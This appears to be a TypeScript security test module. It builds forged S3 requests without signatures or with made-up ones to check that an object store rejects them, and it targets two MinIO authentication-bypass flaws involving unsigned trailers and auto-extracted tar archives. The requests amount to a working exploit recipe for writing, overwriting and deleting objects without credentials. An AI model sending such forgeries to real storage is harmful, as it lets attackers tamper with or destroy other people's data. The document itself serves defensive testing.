/** What an attacker may know of an object and its store. It includes no secret. */
export type Known = {
  bucketUrl: string
  bucket: string
  key: string
  region: string
  /** Access key ids: every presigned URL shows one. */
  keyIds: Record<'manage' | 'upload' | 'download', string>
}
export type Forgery = { request: string; url: string; init: RequestInit }

const forgedBytes = 'OWNED'
const noSignature = 'f'.repeat(64)
const unsignedTrailer = streaming('STREAMING-UNSIGNED-PAYLOAD-TRAILER')

/**
 * Requests that need no secret: a store must reject every one.
 *
 * The unsigned trailer is CVE-2026-41145: MinIO verifies such a PUT only if it has an `Authorization` header. With a
 * key id in the query instead, it writes the body. The archive is CVE-2026-40344: the same for a tar file, which
 * MinIO unpacks into objects.
 */
export function forgeries(known: Known): Forgery[] {
  const { manage } = known.keyIds
  const query = presignQuery(known, manage)
  const onlyId = `X-Amz-Credential=${encodeURIComponent(scope(known, manage))}`
  return [
    ...Object.entries(known.keyIds).map(([user, id]) =>
      put(known, `an unsigned trailer and the key id of the ${user} user`, presignQuery(known, id), {
        headers: unsignedTrailer,
        body: chunks(forgedBytes),
      }),
    ),
    put(known, 'an unsigned trailer and nothing but a key id', onlyId, {
      headers: unsignedTrailer,
      body: chunks(forgedBytes),
    }),
    put(known, 'an unsigned trailer that holds a checksum', query, {
      headers: { ...unsignedTrailer, 'x-amz-trailer': 'x-amz-checksum-crc32' },
      body: chunks(forgedBytes, `x-amz-checksum-crc32:${crc32OfForgedBytes}\r\n`),
    }),
    put(known, 'an unsigned trailer and a made-up Authorization header', '', {
      headers: { ...unsignedTrailer, ...authorization(known, manage) },
      body: chunks(forgedBytes),
    }),
    ...['STREAMING-AWS4-HMAC-SHA256-PAYLOAD', 'STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER'].map((kind) =>
      put(known, `a made-up signature and a body of the kind ${kind}`, query, {
        headers: streaming(kind),
        body: chunks(forgedBytes),
      }),
    ),
    put(
      known,
      'an archive to unpack',
      query,
      archive(known, (tar) => tar),
    ),
    put(known, 'an archive to unpack, in chunks', query, archive(known, chunks)),
    put(known, 'a made-up signature', query, { body: forgedBytes }),
    put(known, 'no signature', '', { body: forgedBytes }),
    { request: 'GET with a made-up signature', url: `${urlOf(known)}?${query}`, init: {} },
    { request: 'GET without a signature', url: urlOf(known), init: {} },
    { request: 'list without a signature', url: `${known.bucketUrl}?list-type=2&max-keys=1`, init: {} },
    { request: 'DELETE without a signature', url: urlOf(known), init: { method: 'DELETE' } },
  ]
}

/** A part of a multipart upload that another client began. */
export const forgedPart = (known: Known, uploadId: string): Forgery =>
  put(
    known,
    'an unsigned trailer, as part of an upload',
    `partNumber=1&uploadId=${encodeURIComponent(uploadId)}&${presignQuery(known, known.keyIds.manage)}`,
    { headers: unsignedTrailer, body: chunks(forgedBytes) },
  )

const urlOf = ({ bucketUrl, key }: Known): string => `${bucketUrl}/${key}`

function put(known: Known, withWhat: string, query: string, init: RequestInit): Forgery {
  const url = query ? `${urlOf(known)}?${query}` : urlOf(known)
  return { request: `PUT with ${withWhat}`, url, init: { method: 'PUT', ...init } }
}

const now = (): string => new Date().toISOString().replace(/[-:]|\.\d+/g, '')
const scope = ({ region }: Known, keyId: string): string =>
  `${keyId}/${now().slice(0, 8)}/${region}/s3/aws4_request`

const presignQuery = (known: Known, keyId: string): string =>
  new URLSearchParams({
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': scope(known, keyId),
    'X-Amz-Date': now(),
    'X-Amz-Expires': '900',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': noSignature,
  }).toString()

function authorization(known: Known, keyId: string): Record<string, string> {
  const signed = 'host;x-amz-content-sha256;x-amz-date'
  const value = `Credential=${scope(known, keyId)}, SignedHeaders=${signed}, Signature=${noSignature}`
  return { authorization: `AWS4-HMAC-SHA256 ${value}`, 'x-amz-date': now() }
}

function streaming(kind: string): Record<string, string> {
  return {
    'x-amz-content-sha256': kind,
    'content-encoding': 'aws-chunked',
    'x-amz-decoded-content-length': String(forgedBytes.length),
  }
}

/** A body in the chunks of `aws-chunked`. */
const chunks = (text: string, trailer = ''): string =>
  `${text.length.toString(16)}\r\n${text}\r\n0\r\n${trailer}\r\n\r\n`

const crc32OfForgedBytes = 'zOCRnQ=='

/** Unpacked, it holds forged bytes for the very object. */
function archive({ key }: Known, packed: (tar: string) => string): RequestInit {
  const slash = key.lastIndexOf('/')
  const tar = tarOf(key.slice(slash + 1), forgedBytes)
  const headers = {
    ...unsignedTrailer,
    'x-amz-decoded-content-length': String(tar.length),
    'x-amz-meta-snowball-auto-extract': 'true',
    'x-amz-meta-minio-snowball-prefix': key.slice(0, slash),
  }
  return { headers, body: packed(tar) }
}

/** The smallest archive in the format of POSIX `ustar`: one file of a few bytes, all of it ASCII. */
function tarOf(name: string, text: string): string {
  const octal = (value: number, width: number) => `${value.toString(8).padStart(width - 1, '0')}\0`
  const field = (value: string, width: number) => value.padEnd(width, '\0')
  const owner = octal(0, 8).repeat(2)
  const before = field(name, 100) + octal(0o644, 8) + owner + octal(text.length, 12) + octal(0, 12)
  const after = field(`0${field('', 100)}ustar\x0000`, 512 - before.length - 8)
  const sum = [...before, ...after].reduce((total, char) => total + char.charCodeAt(0), 8 * 32)
  const checksum = `${octal(sum, 7)} `
  return before + checksum + after + field(text, 512) + field('', 1024)
}
